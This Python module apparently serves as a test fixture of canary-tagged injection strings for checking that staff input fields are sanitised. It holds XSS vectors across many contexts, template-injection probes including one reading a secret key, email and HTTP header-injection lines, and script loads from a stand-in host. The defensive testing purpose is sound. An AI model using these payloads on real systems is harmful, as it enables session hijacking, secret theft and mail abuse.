"""Known injections for the boxes that staff type into: each names itself "canary" in whatever it would bring in.

One for each way known to us by which typed text becomes an element, an attribute, an address, a script, a style, a
header or an instruction. None holds a dollar sign with a digit or a number in brackets: publishing asks about those.
"""

CALL = "canary(1)"
ELEMENTS = [
    f"\"'></textarea></title></style></script><img src=canary onerror={CALL}>",  # ends whatever it stands in
    f"<script canary>{CALL}</script>",
    f"<ScRiPt canary>{CALL}</sCrIpT >",
    "<script canary src=//canary.example.com></script>",
    f"<svg canary/onload={CALL}>",
    f"<svg canary><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    f"<svg canary><script>{CALL}</script></svg>",
    f"<svg canary><a xlink:href='javascript:{CALL}'><text>x</text></a></svg>",
    "<svg canary><use href='data:image/svg+xml,canary'/></svg>",
    f"<math canary><mi xlink:href='javascript:{CALL}'>x</mi></math>",
    f"<math canary><mtext><table><mglyph><style><img src=canary onerror={CALL}>",  # mutation
    f'<noscript canary><p title="</noscript><img src=canary onerror={CALL}>">',  # mutation
    f"<iframe canary srcdoc='<script>{CALL}</script>'></iframe>",
    f"<iframe canary src=javascript:{CALL}></iframe>",
    f"<object canary data='data:text/html,<script>{CALL}</script>'></object>",
    "<embed canary src=//canary.example.com/x.swf>",
    "<base canary href=//canary.example.com/>",
    f"<meta canary http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<link canary rel=stylesheet href=//canary.example.com/x.css>",
    f"<form canary action=javascript:{CALL}><button formaction=javascript:{CALL}>Go</button></form>",
    f"<input canary autofocus onfocus={CALL}>",
    f"<details canary open ontoggle={CALL}>",
    f"<video canary><source onerror={CALL}></video>",
    f"<body canary onload={CALL}>",
    f"<marquee canary onstart={CALL}>",
    f"<canary-element onclick={CALL}>",
    f"<img canary src=x:canary onerror={CALL}//",  # never ended
    f"<!--><img src=canary onerror={CALL}>-->",
    f"<![CDATA[<img src=canary onerror={CALL}>]]>",
    f"<<script canary>{CALL}//<</script>",
    f"<scr\x00ipt canary>{CALL}</script>",
    f"&lt;img canary src=x onerror={CALL}&gt;",  # typed as references already
    f"&amp;lt;img canary src=x onerror={CALL}&amp;gt;",
    f"\\u003cimg canary src=x onerror={CALL}\\u003e",
    f"＜img canary src=x onerror={CALL}＞",  # becomes one where text is normalised
]
ATTRIBUTES = [
    f'" canary onmouseover="{CALL}',
    f"' canary onmouseover='{CALL}",
    f"` canary onmouseover=`{CALL}",
    f" canary onmouseover={CALL} ",
    f'"\tcanary\nautofocus/onfocus="{CALL}',
]
STYLES = [
    "<style canary>*{background:url(//canary.example.com)}</style>",
    f"<p style='background:url(javascript:{CALL})' canary>x</p>",
    "}*{background:url(//canary.example.com)}/*canary",
]
DATA = [
    f'"}}]}}</script><script canary>{CALL}</script>',
    '","url":"javascript:canary(1)","x":"',
    "\u2028canary\u2029",
]
TEMPLATES = [
    "{{ 31337|add:31337 }}canary",
    "{% debug %}canary",
    "{{ settings.SECRET_KEY }}canary",
    "${31337*31337}canary",
    "{0.__class__}%(canary)s%s",
]
HEADERS = [
    "Canary\r\nBcc: canary@example.com",
    "Canary\nContent-Type: text/html\n\n<script canary>",
    "=?utf-8?q?Canary=0d=0aBcc:_canary=40example.com?=",
]
SIGNS = ["\u202eyranac\u202c", "\u2066canary\u2069\u200f", "\x1b[31mcanary\x1b[0m"]
MARKDOWN = [
    f"](javascript:{CALL}) [the canary](javascript:{CALL})",
    "\n## canary\n- [the canary](//canary.example.com)",
]
ADDRESSES = [
    f"javascript:{CALL}",
    f" \x01JaVa\tScRiPt:{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script canary>{CALL}</script>",
    f'https://example.com/canary"onmouseover="{CALL}',
    f"https://example.com/'><img/src=canary/onerror={CALL}>",
    "https://example.com/canary\r\nSet-Cookie: canary=1",
    f"//canary.example.com/{CALL}",
]
IN_RICH_TEXT = [
    f'<a href="{address}" onclick="{CALL}" style="canary" id="canary">x</a>' for address in ADDRESSES[:4]
]
TYPED = [
    *ELEMENTS,
    *ATTRIBUTES,
    *STYLES,
    *DATA,
    *TEMPLATES,
    *HEADERS,
    *SIGNS,
    *MARKDOWN,
    *ADDRESSES,
    *IN_RICH_TEXT,
]
PRODUCTS = ("62674", "982007569")  # what a template would make of the sums above
